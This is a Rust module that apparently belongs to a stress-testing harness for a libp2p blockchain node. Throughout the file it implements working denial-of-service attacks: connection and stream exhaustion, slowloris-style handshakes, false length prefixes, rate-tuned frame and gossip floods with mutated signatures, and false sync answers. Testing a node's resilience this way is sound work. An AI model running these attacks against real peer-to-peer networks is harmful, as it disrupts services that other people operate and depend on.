//! The attacks. Each goes on until its time is over, and comes back as often as it is thrown out.

use std::{
    io,
    time::{Duration, Instant},
};

use futures::{AsyncReadExt, AsyncWriteExt, future::join_all};
use libp2p::core::muxing::SubstreamBox;
use tokio::io::AsyncWriteExt as _;

use crate::{
    Plan,
    connection::{Connection, grant},
    gossip,
};

/// Wait after being refused, so that being refused does not become the work.
const AGAIN: Duration = Duration::from_millis(20);
/// Frames that a flood sends in a second, if they are short.
const FRAMES_PER_S: u64 = 10_000;
/// Bytes that a flood sends in a second.
const BYTES_PER_S: u64 = 64 * 1024 * 1024;
/// How long anything may hang before it is given up.
const HANG: Duration = Duration::from_secs(2);

/// What an attack does.
#[derive(Clone, Copy)]
pub(crate) enum Attack {
    /// Opens TCP connections by the hundred and says nothing.
    SilentHandshakes,
    /// Begins the handshake with a byte now and then, on many connections.
    SlowHandshakes,
    /// Sends random bytes instead of a handshake.
    GarbageHandshakes,
    /// Dials, finishes the handshake if it may, and leaves; again and again.
    Dials,
    /// Opens as many streams as it can, and begins to negotiate a protocol on each.
    HalfOpenStreams,
    /// Opens streams of every protocol and says nothing more.
    IdleStreams,
    /// Announces lengths that are none, or that nothing follows.
    LyingLengths,
    /// Sends random bytes in every protocol.
    RandomBytes,
    /// Sends the given frames of agreement, as fast as it may.
    Frames,
    /// Asks for blocks without end, and reads what comes.
    Requests,
    /// Asks for blocks and reads nothing.
    UnreadAnswers,
    /// Claims a height, and answers falsely or never.
    FalseAnswers,
    /// Gossips the given batches, each a little changed.
    Gossip,
    /// Sends gossip's announcements and wishes.
    GossipControl,
    /// Pings without end.
    Pings,
}

impl Attack {
    pub(crate) fn of(name: &str) -> Option<Self> {
        Some(match name {
            "silent-handshakes" => Self::SilentHandshakes,
            "slow-handshakes" => Self::SlowHandshakes,
            "garbage-handshakes" => Self::GarbageHandshakes,
            "dials" => Self::Dials,
            "half-open-streams" => Self::HalfOpenStreams,
            "idle-streams" => Self::IdleStreams,
            "lying-lengths" => Self::LyingLengths,
            "random-bytes" => Self::RandomBytes,
            "frames" => Self::Frames,
            "requests" => Self::Requests,
            "unread-answers" => Self::UnreadAnswers,
            "false-answers" => Self::FalseAnswers,
            "gossip" => Self::Gossip,
            "gossip-control" => Self::GossipControl,
            "pings" => Self::Pings,
            _ => return None,
        })
    }
}

/// What an attack could do.
#[derive(Default)]
pub(crate) struct Done {
    connections: u64,
    refused: u64,
    streams: u64,
    frames: u64,
    bytes: u64,
}

impl Done {
    pub(crate) fn json(&self) -> String {
        let Self { connections, refused, streams, frames, bytes } = self;
        format!(
            r#"{{"connections":{connections},"refused":{refused},"streams":{streams},"frames":{frames},"bytes":{bytes}}}"#
        )
    }

    fn sent(&mut self, bytes: usize) {
        self.frames += 1;
        self.bytes += bytes as u64;
    }
}

/// Attacks until the time is over.
pub(crate) async fn run(attack: Attack, plan: &Plan) -> Done {
    let mut done = Done::default();
    while Instant::now() < plan.until {
        let left = plan.until.saturating_duration_since(Instant::now());
        let outcome = tokio::time::timeout(left, once(attack, plan, &mut done)).await;
        if let Ok(Err(_)) = outcome {
            done.refused += 1;
            tokio::time::sleep(AGAIN).await;
        }
    }
    done
}

/// One attempt; ends when the victim ends it.
async fn once(attack: Attack, plan: &Plan, done: &mut Done) -> io::Result<()> {
    match attack {
        Attack::SilentHandshakes => silent(plan, done).await,
        Attack::SlowHandshakes => slow(plan, done).await,
        Attack::GarbageHandshakes => garbage(plan, done).await,
        _ => {
            let connection = plan.target.connect().await?;
            done.connections += 1;
            match attack {
                Attack::Dials => {
                    // Long enough for the victim to have said what it thinks.
                    tokio::time::sleep(Duration::from_millis(1)).await;
                    Ok(())
                }
                Attack::HalfOpenStreams => half_open(&connection, done).await,
                Attack::IdleStreams => idle(plan, &connection, done).await,
                Attack::LyingLengths => lying(plan, &connection, done).await,
                Attack::RandomBytes => random(plan, &connection, done).await,
                Attack::Frames => frames(plan, &connection, done).await,
                Attack::Requests => requests(plan, &connection, done, true).await,
                Attack::UnreadAnswers => requests(plan, &connection, done, false).await,
                Attack::FalseAnswers => false_answers(plan, connection, done).await,
                Attack::Gossip => gossip_flood(plan, &connection, done).await,
                Attack::GossipControl => gossip_control(plan, &connection, done).await,
                _ => pings(&connection, done).await,
            }
        }
    }
}

async fn silent(plan: &Plan, done: &mut Done) -> io::Result<()> {
    let mut held = Vec::new();
    for _ in 0..200 {
        held.push(plan.target.tcp().await?);
        done.connections += 1;
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    Ok(())
}

async fn slow(plan: &Plan, done: &mut Done) -> io::Result<()> {
    let mut held = Vec::new();
    for _ in 0..50 {
        held.push(plan.target.tcp().await?);
        done.connections += 1;
    }
    for byte in b"\x13/multistream/1.0.0\n\x07/noise\n" {
        for stream in &mut held {
            if stream.write_all(&[*byte]).await.is_ok() {
                done.sent(1);
            }
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    Ok(())
}

async fn garbage(plan: &Plan, done: &mut Done) -> io::Result<()> {
    let mut stream = plan.target.tcp().await?;
    done.connections += 1;
    let bytes = noise_of(64 * 1024);
    loop {
        stream.write_all(&bytes).await?;
        done.sent(bytes.len());
    }
}

/// Bytes without a pattern, the same in every run.
fn noise_of(length: usize) -> Vec<u8> {
    let mut bytes = vec![0; length];
    blake3::Hasher::new().finalize_xof().fill(&mut bytes);
    bytes
}

async fn half_open(connection: &Connection, done: &mut Done) -> io::Result<()> {
    let mut held = Vec::new();
    while held.len() < 500 {
        let mut stream = connection.open().await?;
        done.streams += 1;
        // A negotiation that begins and does not go on.
        stream.write_all(b"\x13/multistream").await?;
        stream.flush().await?;
        done.sent(13);
        held.push(stream);
    }
    tokio::time::sleep(HANG).await;
    Ok(())
}

async fn idle(plan: &Plan, connection: &Connection, done: &mut Done) -> io::Result<()> {
    let protocols = [&plan.protocols.sync, &plan.protocols.consensus, gossip::PROTOCOL, "/ipfs/ping/1.0.0"];
    let mut held = Vec::new();
    let mut refused = 0;
    for protocol in protocols.iter().cycle().take(400) {
        match connection.stream(protocol).await {
            Ok(stream) => {
                done.streams += 1;
                held.push(stream);
            }
            Err(_) if connection.is_over() => break,
            Err(_) => refused += 1,
        }
        if refused > 8 {
            break;
        }
    }
    tokio::time::sleep(HANG).await;
    Ok(())
}

async fn lying(plan: &Plan, connection: &Connection, done: &mut Done) -> io::Result<()> {
    for length in [u32::MAX, 0, 2 * 1024 * 1024 + 1, 2 * 1024 * 1024] {
        for protocol in [&plan.protocols.sync, &plan.protocols.consensus] {
            if let Ok(mut stream) = connection.stream(protocol).await {
                stream.write_all(&length.to_be_bytes()).await?;
                stream.write_all(&[7; 100]).await?;
                stream.flush().await?;
                done.streams += 1;
                done.sent(104);
            }
        }
        let mut stream = connection.stream(gossip::PROTOCOL).await?;
        stream.write_all(&[0xff, 0xff, 0xff, 0xff, 0x0f, 7, 7, 7]).await?;
        stream.flush().await?;
        done.streams += 1;
        done.sent(8);
    }
    tokio::time::sleep(AGAIN).await;
    if connection.is_over() { Err(io::ErrorKind::ConnectionAborted.into()) } else { Ok(()) }
}

async fn random(plan: &Plan, connection: &Connection, done: &mut Done) -> io::Result<()> {
    let bytes = noise_of(256 * 1024);
    let protocols = ["/ipfs/id/1.0.0", "/ipfs/ping/1.0.0", gossip::PROTOCOL, &plan.protocols.sync];
    for (at, protocol) in protocols.iter().chain([&plan.protocols.consensus.as_str()]).enumerate() {
        if let Ok(mut stream) = connection.stream(protocol).await {
            done.streams += 1;
            let from = bytes.get(at * 1_000..).unwrap_or_default();
            let writing = async { stream.write_all(from).await };
            if let Ok(Ok(())) = tokio::time::timeout(Duration::from_millis(100), writing).await {
                done.sent(from.len());
            }
        }
    }
    if connection.is_over() { Err(io::ErrorKind::ConnectionAborted.into()) } else { Ok(()) }
}

/// How many of these may be sent in a turn of ten milliseconds.
fn per_turn(frames: &[Vec<u8>]) -> u64 {
    let bytes: u64 = frames.iter().map(|frame| frame.len() as u64).sum();
    let average = bytes / (frames.len().max(1) as u64);
    (BYTES_PER_S / average.max(1)).clamp(100, FRAMES_PER_S) / 100
}

/// Writes without end, at a flood's pace, what `next` makes of a number.
async fn flood(
    stream: &mut SubstreamBox,
    done: &mut Done,
    per_turn: u64,
    mut next: impl FnMut(u64) -> Vec<u8>,
) -> io::Result<()> {
    let mut ticks = tokio::time::interval(Duration::from_millis(10));
    let mut number = 0;
    loop {
        ticks.tick().await;
        for _ in 0..per_turn {
            let bytes = next(number);
            number += 1;
            stream.write_all(&bytes).await?;
            done.sent(bytes.len());
        }
        stream.flush().await?;
    }
}

async fn frames(plan: &Plan, connection: &Connection, done: &mut Done) -> io::Result<()> {
    let mut stream = connection.consensus(&plan.protocols.consensus).await?;
    done.streams += 1;
    let mut given = plan.frames.iter().cycle();
    let next = |_| {
        let frame = given.next().cloned().unwrap_or_default();
        [u32::try_from(frame.len()).unwrap_or(0).to_be_bytes().as_slice(), &frame].concat()
    };
    flood(&mut stream, done, per_turn(&plan.frames), next).await
}

/// A catch-up request: "final blocks from height 1 on".
const BLOCKS_FROM_1: [u8; 13] = [0, 0, 0, 9, 1, 1, 0, 0, 0, 0, 0, 0, 0];

async fn requests(plan: &Plan, connection: &Connection, done: &mut Done, reads: bool) -> io::Result<()> {
    let mut held = Vec::new();
    loop {
        let asked = join_all((0..16).map(|_| async {
            let mut stream = connection.stream(&plan.protocols.sync).await?;
            stream.write_all(&BLOCKS_FROM_1).await?;
            stream.flush().await?;
            let mut answer = Vec::new();
            if reads {
                let _ = tokio::time::timeout(HANG, stream.read_to_end(&mut answer)).await;
            }
            io::Result::Ok((stream, answer.len()))
        }))
        .await;
        let mut any = false;
        for (stream, length) in asked.into_iter().flatten() {
            any = true;
            done.streams += 1;
            done.sent(length);
            if !reads {
                held.push(stream);
            }
        }
        if connection.is_over() || !any {
            return Err(io::ErrorKind::ConnectionAborted.into());
        }
    }
}

async fn false_answers(plan: &Plan, mut connection: Connection, done: &mut Done) -> io::Result<()> {
    let mut stream = connection.consensus(&plan.protocols.consensus).await?;
    let claims: Vec<u8> =
        plan.frames.iter().flat_map(|frame| [&[0, 0, 0, frame.len() as u8], frame.as_slice()].concat()).collect();
    let mut held = Vec::new();
    let mut turn = 0;
    loop {
        stream.write_all(&claims).await?;
        stream.flush().await?;
        done.sent(claims.len());
        let Ok(asked) = tokio::time::timeout(Duration::from_millis(100), connection.incoming.recv()).await else {
            if connection.is_over() {
                return Err(io::ErrorKind::ConnectionAborted.into());
            }
            continue;
        };
        let Some(mut asked) = asked else { return Err(io::ErrorKind::ConnectionAborted.into()) };
        let protocol = match tokio::time::timeout(HANG, grant(&mut asked)).await {
            Ok(Ok(protocol)) => protocol,
            _ => continue,
        };
        if protocol == plan.protocols.consensus {
            let _ = asked.write_all(&[1]).await;
            let _ = asked.flush().await;
            held.push(asked);
            continue;
        }
        if protocol != plan.protocols.sync {
            continue;
        }
        done.streams += 1;
        turn += 1;
        match turn % 4 {
            0 => held.push(asked),
            1 => {
                let _ = asked.write_all(&u32::MAX.to_be_bytes()).await;
                let _ = asked.flush().await;
            }
            2 => {
                // The longest that is allowed, and then a little more.
                let bytes = noise_of(1024 * 1024);
                let _ = asked.write_all(&(8u32 * 1024 * 1024).to_be_bytes()).await;
                for _ in 0..9 {
                    let writing = asked.write_all(&bytes);
                    if !matches!(tokio::time::timeout(HANG, writing).await, Ok(Ok(()))) {
                        break;
                    }
                    done.sent(bytes.len());
                }
            }
            _ => {
                let _ = asked.write_all(&[0, 0, 0, 3, 9, 9, 9]).await;
                let _ = asked.close().await;
            }
        }
    }
}

async fn gossip_flood(plan: &Plan, connection: &Connection, done: &mut Done) -> io::Result<()> {
    let mut stream = connection.stream(gossip::PROTOCOL).await?;
    stream.write_all(&gossip::subscribe(&plan.protocols.topic)).await?;
    done.streams += 1;
    let mut given = plan.frames.iter().cycle();
    let next = |number: u64| {
        let mut batch = given.next().cloned().unwrap_or_default();
        // The end of a batch is the end of a signature: changed, the batch is another one and reads as well as before.
        if let Some(end) = batch.last_chunk_mut::<8>() {
            *end = number.to_le_bytes();
        }
        gossip::publish(&plan.protocols.topic, &batch)
    };
    flood(&mut stream, done, per_turn(&plan.frames), next).await
}

async fn gossip_control(plan: &Plan, connection: &Connection, done: &mut Done) -> io::Result<()> {
    let mut stream = connection.stream(gossip::PROTOCOL).await?;
    stream.write_all(&gossip::subscribe(&plan.protocols.topic)).await?;
    done.streams += 1;
    flood(&mut stream, done, 10, |number| gossip::control(&plan.protocols.topic, number)).await
}

async fn pings(connection: &Connection, done: &mut Done) -> io::Result<()> {
    let mut stream = connection.stream("/ipfs/ping/1.0.0").await?;
    done.streams += 1;
    loop {
        stream.write_all(&[7; 32]).await?;
        stream.flush().await?;
        done.sent(32);
        let mut echo = [0; 32];
        stream.read_exact(&mut echo).await?;
    }
}
